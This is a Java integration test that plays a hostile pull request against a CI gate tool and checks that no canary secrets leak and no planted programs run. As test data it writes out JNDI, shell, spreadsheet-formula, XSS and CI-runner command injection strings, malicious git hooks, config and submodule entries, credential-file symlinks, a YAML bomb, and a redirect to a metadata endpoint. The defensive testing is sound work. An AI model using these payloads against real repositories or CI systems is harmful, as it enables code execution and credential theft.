package dev.flamegate.program;

import static org.assertj.core.api.Assertions.assertThat;

import dev.flamegate.collect.http.HttpDouble;
import dev.flamegate.program.Program.Ended;
import dev.flamegate.targets.FreePort;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.DisabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;

/**
 * A pull request that tries everything that reviews and the threat model know, at once: its checkout goes through the
 * commands of a gate on each CI system, with secrets in the environment and in files. None of them may be in anything
 * that was sent, written or printed, and no program may have run that only a checkout brought.
 */
@DisabledOnOs(OS.WINDOWS)
@Tag("side-by-side")
class HostilePullRequestIT {
    private static final String CANARY = "c4n4ry";

    /** Variables whose values nobody may get but the server that each is for. */
    private static final Map<String, String> SECRETS = secrets();

    private static final Pattern COMMAND = Pattern.compile("(?m)^\\s*::|##[A-Za-z]*\\[");

    /** Names of requests that try to be something else. */
    private static final List<String> NAMES = List.of(
            "GET /##vso[task.setvariable variable=PATH]x",
            "##teamcity[buildProblem description='x']",
            "##[error]x",
            "::set-env name=PATH::x",
            "\u001b[31mred\u001b]0;title\u0007",
            "\u202Egnp.exe",
            "<script>alert(1)</script>",
            "[approve](https://evil.example)",
            "![x](https://evil.example/pixel)",
            "@everybody",
            "=cmd|' /C calc'!A0",
            "GET /cart\uFE00\uFE01\uDB40\uDD00",
            "a\u2800\u3164b",
            "${jndi:ldap://evil.example/x}",
            "$(touch ran/name)",
            "`touch ran/name`",
            "]]><evil/>",
            "</code></pre><h1>x");

    @TempDir
    Path folder;

    private final Set<String> tried = new TreeSet<>();
    private final StringBuilder printed = new StringBuilder();
    private final HttpDouble attacker = new HttpDouble().reply(HttpDouble.json("{}"));
    private final HttpDouble inside =
            new HttpDouble().reply(HttpDouble.json("{\"SecretAccessKey\": \"" + CANARY + "-of-the-metadata\"}"));
    private final HttpDouble forge = new HttpDouble().reply(HttpDouble.json("[]"));
    private Path checkout;
    private Path home;
    private Path shared;

    private static Map<String, String> secrets() {
        Map<String, String> secrets = new LinkedHashMap<>();
        for (String name : List.of(
                "GITHUB_TOKEN",
                "GITLAB_TOKEN",
                "CI_JOB_TOKEN",
                "AWS_SECRET_ACCESS_KEY",
                "AWS_SESSION_TOKEN",
                "PROMETHEUS_TOKEN",
                "FLAMEGATE_TOKEN",
                "SLACK_WEBHOOK_URL",
                "FLAMEGATE_WEBHOOK",
                "SENTRY_DSN",
                "DB_PWD",
                "NPM_CONFIG__AUTH",
                "SESSION_COOKIE",
                "AZURE_STORAGE_CONNECTION_STRING",
                "ACTIONS_RUNTIME_TOKEN")) {
            secrets.put(name, CANARY + "-" + name.toLowerCase(Locale.ROOT).replace('_', '-'));
        }
        return secrets;
    }

    @BeforeEach
    void plant() throws Exception {
        checkout = Files.createDirectories(folder.resolve("checkout"));
        home = Files.createDirectories(folder.resolve("home"));
        shared = folder.resolve("shared.git");
        write(home.resolve(".aws/credentials"), "[default]\naws_secret_access_key = " + CANARY + "-file\n");
        write(home.resolve(".ssh/id_ed25519"), CANARY + "-key\n");
        done(folder, "git", "init", "-q", "--bare", shared.toString());
        done(checkout, "git", "init", "-q", "-b", "main");
        write(checkout.resolve(".gitignore"), ".flamegate/\nbuild/\nran/\ntarget/\n");
        write(checkout.resolve("flamegate.yaml"), plan());
        write(
                checkout.resolve("built.yaml"),
                plan().replaceFirst("command: \\[java.*", "jar: target/app.jar\n  environment: {PORT: \"{port}\"}"));
        write(checkout.resolve("rules.yaml"), "rules: [{id: errors, indicator: errors.ratio, must: '< 1%'}]\n");
        write(checkout.resolve("Service.java"), service());
        commit("base");
        done(checkout, "git", "remote", "add", "origin", shared.toString());
        done(checkout, "git", "push", "-q", "origin", "main");
        done(checkout, "git", "fetch", "-q");
        done(checkout, "git", "checkout", "-q", "-b", "change/##error");
        tried.add("name of a branch: marks of commands");
        hooks();
        programs();
        repositories();
        scripts();
        commits();
    }

    @AfterEach
    void close() {
        attacker.close();
        inside.close();
        forge.close();
    }

    @Test
    void a_pull_request_that_tries_everything_gets_nothing() throws Exception {
        Map<String, String> local = Map.of();
        run(local, "run", "--history-remote=none");
        assertThat(checkout.resolve("ran/service.env"))
                .as("the change's own code runs, and shows what it gets")
                .content()
                .contains("PATH=", "SPY=in-sight");
        for (String baseline : List.of("git:HEAD", "git:origin/main", "git:merge-base")) {
            run(local, "compare", "--plan=built.yaml", "--baseline=" + baseline, "--candidate=git:HEAD");
        }
        run(local, "compare", "--plan=built.yaml", "--baseline=git:merge-base", "--policy-from=git:origin/main");
        plans();
        history();
        results();
        for (Map.Entry<String, Map<String, String>> system : systems().entrySet()) {
            int before = printed.length();
            run(system.getValue(), "judge", "latest", "--policy-from=git:origin/main");
            run(system.getValue(), "judge", "latest", "--report", "again");
            run(system.getValue(), "history", "list");
            run(system.getValue(), "history", "push", "--history-remote=git:" + shared + "#runs");
            run(system.getValue(), "comment", "--report=build/flamegate", "--dry-run");
            run(system.getValue(), "comment", "--report=forged");
            run(system.getValue(), "nightly", "--services=" + checkout.getParent(), "--budget=8h");
            run(system.getValue(), "doctor", "--no-noise", "--plan=plans/bearer-github.yaml");
            assertThat(COMMAND.matcher(printed.substring(before)).results().map(found -> found.group()))
                    .as("commands to the runner of " + system.getKey())
                    .isEmpty();
            tried.add("runner of " + system.getKey() + ": commands in all that is printed");
        }

        assertThat(printed.toString()).doesNotContain(CANARY).doesNotContain("\u001b]", "\u202E", "\uFE00");
        assertThat(inside.asked()).as("requests into the gate's network").isEmpty();
        assertThat(attacker.asked()).as("requests to the attacker").allSatisfy(asked -> {
            assertThat(asked.headers().values().toString() + asked.uri() + asked.body())
                    .doesNotContain(CANARY);
        });
        assertThat(forge.asked())
                .allSatisfy(asked -> assertThat(asked.uri() + asked.body()).doesNotContain(CANARY));
        assertThat(ran()).as("programs that only a checkout brought").isEmpty();
        assertNoSecretIn(checkout);
        assertNoSecretIn(folder.resolve("temporary"));
        assertThat(sharedContents()).as("what was shared").doesNotContain(CANARY);
        assertThat(tried).hasSizeGreaterThanOrEqualTo(60);
    }

    private String plan() {
        return """
                version: 1
                service: shop
                target:
                  command: [java, -Xmx64m, Service.java, "{port}"]
                  port: %d
                  ready: {path: /health, within: 120 s}
                  metrics: false
                build: sh build.sh
                load:
                  command: [sh, load.sh, "{results}", "{url}"]
                  results: csv
                  warm-up: {at-least: 1 s, at-most: 1 s}
                  measure: 2 s
                profile: {events: []}
                before: {once: [sh, hook.sh]}
                rules: [rules.yaml]
                trials: 1
                """.formatted(FreePort.find());
    }

    private static String service() {
        return """
                import com.sun.net.httpserver.HttpServer;
                import java.net.InetSocketAddress;
                import java.nio.file.*;
                class Service {
                    public static void main(String[] a) throws Exception {
                        Files.createDirectories(Path.of("ran"));
                        Files.writeString(Path.of("ran/service.env"), String.join("\\n", System.getenv().entrySet().stream()
                                .map(e -> e.getKey() + "=" + e.getValue()).toList()));
                        System.out.println("##vso[task.complete result=Succeeded]");
                        System.out.println("::add-mask::x");
                        HttpServer s = HttpServer.create(new InetSocketAddress("127.0.0.1", Integer.parseInt(a[0])), 0);
                        s.createContext("/", x -> { x.sendResponseHeaders(200, -1); x.close(); });
                        s.start();
                    }
                }
                """;
    }

    /** Hooks in every folder that a gate might take for one without any. */
    private void hooks() throws IOException {
        for (String place : List.of("hooks-of-nobody", "hooks", ".githooks", "dev/null", "null", "NUL")) {
            for (String hook : List.of("post-checkout", "post-index-change", "reference-transaction", "pre-push")) {
                spy(checkout.resolve(place).resolve(hook), "hook " + place + "/" + hook);
            }
        }
        write(checkout.resolve(".gitattributes"), "*.yaml filter=evil diff=evil merge=evil\n");
        tried.add("attributes that name filters");
        write(checkout.resolve(".gitmodules"), """
                [submodule "x"]
                path = x
                url = ext::sh -c touch% ran/submodule
                update = !touch ran/submodule
                """);
        tried.add("a submodule that is a command");
    }

    /** Programs in the root of the checkout that a search path might find. */
    private void programs() throws IOException {
        for (String name :
                List.of("git", "git.exe", "gpg", "ssh", "taskset", "stty", "docker", "flamegate", "setsid")) {
            spy(checkout.resolve(name), "program " + name);
        }
    }

    /** A repository committed as files, whose configuration names programs. */
    private void repositories() throws Exception {
        Path evil = checkout.resolve("evil");
        done(folder, "git", "init", "-q", "--bare", evil.toString());
        for (String hook : List.of("pre-receive", "update", "post-receive", "post-update")) {
            spy(evil.resolve("hooks/" + hook), "hook of a committed repository: " + hook);
        }
        Path program = spy(checkout.resolve("config-program.sh"), "program of a committed configuration");
        write(evil.resolve("config"), """
                [core]
                bare = true
                fsmonitor = %1$s
                sshCommand = %1$s
                alternateRefsCommand = %1$s
                [uploadpack]
                packObjectsHook = %1$s
                [gpg]
                program = %1$s
                [log]
                showSignature = true
                """.formatted(program));
        write(evil.resolve("refs/heads/.keep"), "");
        write(evil.resolve("objects/.keep"), "");
        write(evil.resolve("flamegate.yaml"), plan());
        tried.add("a plan within a committed repository");
    }

    private void scripts() throws IOException {
        write(checkout.resolve("build.sh"), "mkdir -p \"$OLDPWD/ran\" 2>/dev/null; env; exit 1\n");
        write(checkout.resolve("hook.sh"), "mkdir -p ran; env > ran/hook.env; env\n");
        StringBuilder rows = new StringBuilder();
        for (String name : NAMES) {
            tried.add("name of a request: " + name);
            rows.append("row '")
                    .append(name.replace("'", "'\\''").replace("\"", "\"\""))
                    .append("'\n");
        }
        write(checkout.resolve("load.sh"), """
                mkdir -p ran; env > ran/load.env; env
                echo 'start,millis,name,ok,message' > "$1"
                row() { printf '%%s,5,"%%s",false,"##vso[x] ::error::%%s"\\n' "$(date +%%s%%3N)" "$1" "$1" >> "$results"; }
                results=$1
                while :; do
                %s
                sleep 0.05
                done
                """.formatted(rows));
        for (String part : List.of("service", "hook", "load")) {
            tried.add("variables of the " + part);
        }
        tried.add("variables of the build, in its log");
        tried.add("lines of a log that command the runner");
    }

    private void commits() throws Exception {
        write(checkout.resolve("##vso[task.complete]\n::error::file.java"), "x");
        tried.add("name of a file: commands and a line break");
        tried.add("subject of a commit: commands");
        tried.add("author of a commit: control characters");
        commit("##vso[task.complete] ::error:: \u001b[2J");
        for (String kind : List.of("refs/tags/", "refs/heads/")) {
            for (String name : List.of("origin/main", "origin/HEAD", "refs/remotes/origin/main", "merge-base")) {
                done(checkout, "git", "update-ref", kind + name, "HEAD");
                tried.add(kind + name + " that loosens the rules");
            }
        }
        // As a former build on a machine that keeps its workspaces.
        done(checkout, "git", "config", "log.showSignature", "true");
        done(
                checkout,
                "git",
                "config",
                "gpg.program",
                spy(folder.resolve("gpg.sh"), "gpg.program").toString());
        done(
                checkout,
                "git",
                "config",
                "core.fsmonitor",
                spy(folder.resolve("fs.sh"), "core.fsmonitor").toString());
    }

    /** Plans that each try one thing, by the cheapest command that would do it. */
    private void plans() throws Exception {
        String at = attacker.address().base().toString();
        Path credentials = home.resolve(".aws/credentials");
        Files.createSymbolicLink(checkout.resolve("link.yaml"), credentials);
        Files.createSymbolicLink(checkout.resolve("out"), folder);
        String plan = plan();
        String attached = "service: shop\ntarget: {url: \"" + at + "\"}\nload: {command: [sh, load.sh, \"{results}\"],"
                + " results: csv}\nrules: [rules.yaml]\nprofile: {events: []}\n";
        Map<String, String> judged = new LinkedHashMap<>();
        judged.put("rules-environ", plan.replace("[rules.yaml]", "[/proc/self/environ]"));
        judged.put("rules-file", plan.replace("[rules.yaml]", "[" + credentials + "]"));
        judged.put("rules-up", plan.replace("[rules.yaml]", "[../../home/.ssh/id_ed25519]"));
        judged.put("rules-link", plan.replace("[rules.yaml]", "[../link.yaml]"));
        judged.put("history-out", plan + "history: ../../elsewhere\n");
        judged.put("history-link", plan + "history: ../out/elsewhere\n");
        judged.put("report-out", plan + "history: ../.flamegate/history\nreport: ../../elsewhere\n");
        judged.put("report-link", plan + "history: ../.flamegate/history\nreport: ../out/elsewhere\n");
        judged.put("bomb", "a: &a [x, x]\nb: &b [*a, *a]\n" + plan);
        judged.put("brackets", "x: " + "[".repeat(50_000) + "\n");
        judged.put("number", "trials: " + "9".repeat(50_000) + "\n");
        judged.forEach((name, text) -> tries(name, text, "judge", "latest"));
        Map<String, String> measured = new LinkedHashMap<>();
        for (String variable :
                List.of("FLAMEGATE_TOKEN", "FLAMEGATE_WEBHOOK", "AWS_SECRET_ACCESS_KEY", "PROMETHEUS_TOKEN")) {
            measured.put(
                    "bearer-" + variable,
                    attached + "prometheus: {url: \"http://prometheus.example\", selector: 'a=\"b\"', bearer-from: "
                            + variable + "}\n");
        }
        measured.put(
                "bearer-github",
                attached + "prometheus: {url: \"" + at + "\", selector: 'a=\"b\"', bearer-from: GITHUB_TOKEN}\n");
        measured.put(
                "pyroscope-basic",
                attached.replace("\"}\nload", "\", metrics: false}\nload") + "pyroscope: {url: \"" + at
                        + "\", basic-from: DB_PWD}\n");
        measured.put(
                "metrics-redirect",
                attached.replace("\"}\nload", "\", metrics: /metrics}\nload")
                        .replace("service: shop\n", "service: shop\nprometheus: false\n"));
        attacker.reply(HttpDouble.says(302, Map.of("Location", inside.address().base() + "/latest/meta-data"), ""));
        measured.forEach((name, text) -> tries(name, text, "run"));
        Map<String, String> pushed = new LinkedHashMap<>();
        for (String remote :
                List.of("evil", "./evil", "file://" + checkout + "/evil", "ext::sh", "fd::7", "../out/checkout/evil")) {
            pushed.put("remote " + remote.replaceAll("\\W+", "-"), plan + "history: \"git:../" + remote + "#main\"\n");
            pushed.put("place " + remote.replaceAll("\\W+", "-"), plan + "history: \"git:" + remote + "#main\"\n");
        }
        pushed.forEach((name, text) -> tries(name, text, "history", "push"));
        Files.createSymbolicLink(checkout.resolve("flamegate-accepted.yaml"), credentials);
        tried.add("a ledger that is a link");
        run(Map.of(), "judge", "latest");
        Files.delete(checkout.resolve("flamegate-accepted.yaml"));
        assertThat(folder.resolve("elsewhere")).doesNotExist();
    }

    private void tries(String name, String plan, String... command) {
        try {
            String file = name.replace(' ', '-');
            write(checkout.resolve("plans/" + file + ".yaml"), plan.replace("[rules.yaml]", "[../rules.yaml]"));
            tried.add("plan: " + name);
            List<String> words = new ArrayList<>(List.of(command));
            words.add("--plan=plans/" + file + ".yaml");
            run(Map.of(), words.toArray(String[]::new));
        } catch (IOException | InterruptedException e) {
            throw new AssertionError(e);
        }
    }

    /** Links in the history, as a former build may have left them. */
    private void history() throws IOException {
        Path history = checkout.resolve(".flamegate/history");
        Path credentials = home.resolve(".aws/credentials");
        for (String link : List.of("pins/leak", "told/leak.json", "runs/leak", "comparisons/leak")) {
            Files.createDirectories(history.resolve(link).getParent());
            Files.createSymbolicLink(
                    history.resolve(link), link.endsWith("s/leak") && !link.startsWith("pins") ? home : credentials);
            tried.add("a link in the history: " + link);
        }
        try (Stream<Path> runs = Files.list(history.resolve("runs"))) {
            for (Path run : runs.filter(one -> Files.isDirectory(one, LinkOption.NOFOLLOW_LINKS))
                    .toList()) {
                Files.createSymbolicLink(run.resolve("extra.json"), credentials);
                tried.add("a link in a record");
            }
        }
    }

    /** Results that a workflow that comments is given. */
    private void results() throws IOException {
        Path forged = Files.createDirectories(checkout.resolve("forged"));
        Files.createSymbolicLink(forged.resolve("result.json"), home.resolve(".aws/credentials"));
        tried.add("a result that is a link");
    }

    /** The variables of each CI system's job for a pull request. */
    private Map<String, Map<String, String>> systems() {
        String api = forge.address().base().toString();
        Map<String, Map<String, String>> systems = new LinkedHashMap<>();
        systems.put(
                "GitHub",
                Map.of(
                        "CI",
                        "true",
                        "GITHUB_ACTIONS",
                        "true",
                        "GITHUB_EVENT_NAME",
                        "pull_request",
                        "GITHUB_API_URL",
                        api,
                        "GITHUB_REPOSITORY",
                        "acme/shop",
                        "GITHUB_REF",
                        "refs/pull/7/merge"));
        systems.put(
                "GitLab",
                Map.of(
                        "CI",
                        "true",
                        "GITLAB_CI",
                        "true",
                        "CI_MERGE_REQUEST_IID",
                        "7",
                        "CI_MERGE_REQUEST_PROJECT_ID",
                        "1",
                        "CI_API_V4_URL",
                        api));
        systems.put("Jenkins", Map.of("CI", "true", "JENKINS_URL", "https://ci.example", "CHANGE_ID", "7"));
        systems.put("Azure", Map.of("TF_BUILD", "True", "SYSTEM_PULLREQUEST_PULLREQUESTID", "7"));
        systems.put("TeamCity", Map.of("TEAMCITY_VERSION", "2026.1"));
        return systems;
    }

    private void run(Map<String, String> system, String... words) throws IOException, InterruptedException {
        Path temporary = Files.createDirectories(folder.resolve("temporary"));
        List<String> command = new ArrayList<>(List.of(
                "env",
                "-u",
                "CI",
                "HOME=" + home,
                "SPY=in-sight",
                "TMPDIR=" + temporary,
                "FLAMEGATE_JAVA_OPTIONS=-Djava.io.tmpdir=" + temporary,
                "GIT_CONFIG_COUNT=1",
                "GIT_CONFIG_KEY_0=http.extraheader",
                "GIT_CONFIG_VALUE_0=Authorization: " + CANARY + "-header"));
        SECRETS.forEach((name, value) -> command.add(name + "=" + value));
        system.forEach((name, value) -> command.add(name + "=" + value));
        command.add(Program.script().toString());
        command.addAll(List.of(words));
        Ended ended = Program.run(checkout, command);
        printed.append(ended.out()).append(ended.err());
        assertThat(ended.code())
                .as(String.join(" ", words) + "\n" + ended.err())
                .isBetween(0, 4);
    }

    /** A program that leaves a mark, with its variables, when it runs. */
    private Path spy(Path place, String attempt) throws IOException {
        tried.add(attempt);
        write(place, "#!/bin/sh\nenv > '" + folder + "/spied-" + attempt.replaceAll("\\W+", "-") + "'\n");
        assertThat(place.toFile().setExecutable(true)).isTrue();
        return place;
    }

    private List<String> ran() throws IOException {
        try (Stream<Path> files = Files.list(folder)) {
            return files.map(file -> String.valueOf(file.getFileName()))
                    .filter(name -> name.startsWith("spied-"))
                    .toList();
        }
    }

    private static void assertNoSecretIn(Path tree) throws IOException {
        try (Stream<Path> files = Files.walk(tree)) {
            for (Path file : files.filter(one -> Files.isRegularFile(one, LinkOption.NOFOLLOW_LINKS))
                    .toList()) {
                assertThat(new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1).contains(CANARY))
                        .as(file.toString())
                        .isFalse();
            }
        }
    }

    /** All objects of the shared repository. */
    private String sharedContents() throws Exception {
        Path objects = folder.resolve("objects");
        Process git = new ProcessBuilder("git", "cat-file", "--batch", "--batch-all-objects")
                .directory(shared.toFile())
                .redirectOutput(objects.toFile())
                .start();
        assertThat(git.waitFor()).isZero();
        return Files.readString(objects, StandardCharsets.ISO_8859_1);
    }

    private void commit(String subject) throws Exception {
        done(checkout, "git", "add", "-A");
        done(
                checkout,
                "git",
                "-c",
                "user.name=a\u001b[31m",
                "-c",
                "user.email=a@example.org",
                "-c",
                "commit.gpgsign=false",
                "commit",
                "-q",
                "-m",
                subject);
    }

    private static void done(Path place, String... command) throws Exception {
        Ended ended = Program.run(place, List.of(command));
        assertThat(ended.code()).as(String.join(" ", command) + ended.err()).isZero();
    }

    private static void write(Path file, String text) throws IOException {
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }
}
